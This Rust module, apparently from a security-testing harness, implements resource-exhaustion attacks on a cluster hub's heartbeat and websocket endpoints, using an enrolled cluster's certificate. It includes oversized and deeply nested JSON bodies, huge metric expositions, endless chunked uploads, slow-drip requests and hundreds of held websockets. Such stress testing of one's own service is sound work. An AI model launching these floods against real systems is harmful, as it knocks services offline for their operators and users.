//! Attacks with the certificate of an enrolled cluster.

use std::fmt::Write as _;
use std::io;
use std::time::Duration;

use tokio::io::AsyncWriteExt as _;
use tokio::time::sleep;

use crate::attacks::attacker::Attacker;
use crate::attacks::wire::{Body, Door, discard};

const HEARTBEAT: &str = "POST /1.0/remote-cluster/status HTTP/1.1\r\nHost: localhost";
const WEBSOCKET: &str = "GET /1.0/remote-cluster/ws HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\n\
    Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==";
/// The beginning of a body that is one member's exposition.
const EXPOSITION: &str = r#"{"server_metrics":[{"member":"micro1","service":"LXD","metrics":""#;

const MIB: usize = 1024 * 1024;
/// The most that a heartbeat may have.
const LARGEST: usize = 64 * MIB;
/// Between two of the largest bodies in one task.
const PAUSE: Duration = Duration::from_millis(100);

/// The largest bodies, of empty pools, four at a time.
pub(crate) async fn empty_list_entries(attacker: &Attacker) {
    let body = Body::of(r#"{"storage_pool_usages":["#, "{},", "{}]}", LARGEST);
    heartbeats(attacker, 4, PAUSE, vec![body]).await;
}

/// 58 MB of status words of 512 bytes, all different within a list, from each of its clusters.
pub(crate) async fn long_status_words(attacker: &Attacker) {
    let word = "x".repeat(506);
    let mut words = String::new();
    for number in 0..36_000 {
        write!(words, r#"{{"status":"{word}{number:06}","count":1}},"#).unwrap();
    }
    let list = format!("[{}]", words.trim_end_matches(','));
    let lists = format!(r#""ceph_statuses":{list},"member_statuses":{list},"instance_statuses":{list}"#);
    let body = Body::around("{", &lists, "}");
    heartbeats(attacker, attacker.clusters(), PAUSE, vec![body]).await;
}

/// Six expositions of 35 MB, one after the other, with the same series.
pub(crate) async fn heavy_expositions(attacker: &Attacker) {
    let mut lines = String::new();
    let mut number = 0;
    while lines.len() < 35_000_000 {
        number += 1;
        let labels = format!(r#"project=\"default\",name=\"instance-{number:06}\",device=\"eth0\""#);
        write!(lines, r"lxd_network_receive_bytes_total{{{labels}}} {number}\n").unwrap();
    }
    let body = Body::around(EXPOSITION, &lines, r#"# EOF\n"}]}"#);
    let door = attacker.as_cluster(0);
    for _ in 0..6 {
        // Refused ones count, too.
        let _ = door.request(HEARTBEAT, Some(&body)).await;
    }
}

/// As the first, for every list that a heartbeat has, and for the entries of a list that is not one.
pub(crate) async fn empty_entries_of_every_list(attacker: &Attacker) {
    let lists = ["ceph_statuses", "member_statuses", "instance_statuses", "server_metrics", "unknown"];
    let bodies = lists.map(|list| Body::of(&format!(r#"{{"{list}":["#), "{},", "{}]}", LARGEST));
    let nulls = lists.map(|list| Body::of(&format!(r#"{{"{list}":["#), "0,", "0]}", LARGEST));
    heartbeats(attacker, 2, PAUSE, bodies.into_iter().chain(nulls).collect()).await;
}

/// Bodies that are just small enough not to be large, as many at a time as the hub lets a cluster send.
pub(crate) async fn many_bodies_of_a_mebibyte(attacker: &Attacker) {
    let body = Body::of(r#"{"storage_pool_usages":["#, "{},", "{}]}", MIB - 1024);
    heartbeats(attacker, 60, PAUSE, vec![body]).await;
}

/// Bodies in chunks, whose length nobody knows.
pub(crate) async fn bodies_of_unknown_length(attacker: &Attacker) {
    let door = attacker.as_cluster(0);
    let chunk = format!("ffff\r\n{}\r\n", "{},".repeat(0xffff / 3));
    let send = move |_| {
        let (door, chunk) = (door.clone(), chunk.clone());
        async move {
            let start = format!(
                "{HEARTBEAT}\r\nTransfer-Encoding: chunked\r\n\r\n18\r\n{{\"storage_pool_usages\":[\r\n"
            );
            let (mut reader, mut writer) = tokio::io::split(door.tls().await?);
            let sending = async {
                door.write(&mut writer, start.as_bytes()).await?;
                for _ in 0..LARGEST / 0xffff {
                    door.write(&mut writer, chunk.as_bytes()).await?;
                }
                writer.flush().await
            };
            tokio::select! {
                sent = sending => sent,
                () = discard(&mut reader) => Ok(()),
            }
        }
    };
    attacker.in_parallel(8, PAUSE, send).await;
}

/// Large bodies that are announced, and then come in drops.
pub(crate) async fn slow_bodies(attacker: &Attacker) {
    let door = attacker.as_cluster(0);
    let send = move |_| drip(door.clone(), format!("{HEARTBEAT}\r\nContent-Length: {LARGEST}\r\n\r\n{{"));
    attacker.in_parallel(100, PAUSE, send).await;
}

/// Objects and lists within each other, without end.
pub(crate) async fn deep_nesting(attacker: &Attacker) {
    let bodies = ["unknown", "storage_pool_usages", "memory_usage"].into_iter().flat_map(|field| {
        let start = format!(r#"{{"{field}":"#);
        [Body::of(&start, "[", "", LARGEST), Body::of(&start, r#"{"a":"#, "", LARGEST)]
    });
    heartbeats(attacker, 2, PAUSE, bodies.collect()).await;
}

/// One word, name or number that fills the body.
pub(crate) async fn one_long_word(attacker: &Attacker) {
    let bodies = [
        Body::of(r#"{"cpu_load_1":""#, "x", r#""}"#, LARGEST),
        Body::of(r#"{"ui_url":""#, r"\u00e4", r#""}"#, LARGEST),
        Body::of(r#"{"memory_usage":1"#, "0", "}", LARGEST),
        Body::of(r#"{""#, r"\n", r#"":1}"#, LARGEST),
        Body::of(r#"{"storage_pool_usages":[{"name":""#, r"\t", r#""}]}"#, LARGEST),
        Body::of(r#"{"server_metrics":[{"member":""#, r"\t", r#"","metrics":""}]}"#, LARGEST),
    ];
    heartbeats(attacker, 2, PAUSE, bodies.to_vec()).await;
}

/// Fields that are unknown, or known and there a million times.
pub(crate) async fn many_unknown_fields(attacker: &Attacker) {
    let bodies = [
        Body::of("{", r#""a":0,"#, r#""b":0}"#, LARGEST),
        Body::of("{", r#""memory_usage":-1,"#, r#""b":0}"#, LARGEST),
        Body::of("{", r#""member_statuses":[{"status":"","count":-1}],"#, r#""b":0}"#, LARGEST),
    ];
    heartbeats(attacker, 2, PAUSE, bodies.to_vec()).await;
}

/// As many series as fit into the largest body, all different.
pub(crate) async fn tiny_series(attacker: &Attacker) {
    let door = attacker.as_cluster(0);
    let mut number = 0_u64;
    for _ in 0..6 {
        let mut text = String::with_capacity(LARGEST);
        while text.len() < LARGEST - MIB {
            number += 1;
            write!(text, r"a{number:x} 1\n").unwrap();
        }
        let _ = door.request(HEARTBEAT, Some(&Body::around(EXPOSITION, &text, r#""}]}"#))).await;
    }
}

/// Websockets, opened and kept.
pub(crate) async fn websockets(attacker: &Attacker) {
    let door = attacker.as_cluster(0);
    let send = move |_| {
        let door = door.clone();
        async move {
            let mut stream = door.tls().await?;
            door.write(&mut stream, format!("{WEBSOCKET}\r\n\r\n").as_bytes()).await?;
            let _held = door.tally().hold();
            discard(&mut stream).await;
            Ok(())
        }
    };
    attacker.in_parallel(300, PAUSE, send).await;
}

/// Heartbeats with these bodies, each task as another cluster of the attacker's and with the bodies in turn.
async fn heartbeats(attacker: &Attacker, tasks: usize, pause: Duration, bodies: Vec<Body>) {
    let doors: Vec<_> = (0..attacker.clusters()).map(|number| attacker.as_cluster(number)).collect();
    let turn = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let send = move |task: usize| {
        let next = turn.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
        let (door, body) = (doors[task % doors.len()].clone(), bodies[next % bodies.len()].clone());
        async move { door.request(HEARTBEAT, Some(&body)).await }
    };
    attacker.in_parallel(tasks, pause, send).await;
}

/// Sends the beginning of a request, and then a kilobyte ten times a second.
pub(crate) async fn drip(door: Door, start: String) -> io::Result<()> {
    let (mut reader, mut writer) = tokio::io::split(door.tls().await?);
    let _held = door.tally().hold();
    let sending = async {
        door.write(&mut writer, start.as_bytes()).await?;
        loop {
            door.write(&mut writer, &[b' '; 1024]).await?;
            writer.flush().await?;
            sleep(Duration::from_millis(100)).await;
        }
    };
    tokio::select! {
        sent = sending => sent,
        () = discard(&mut reader) => Ok(()),
    }
}
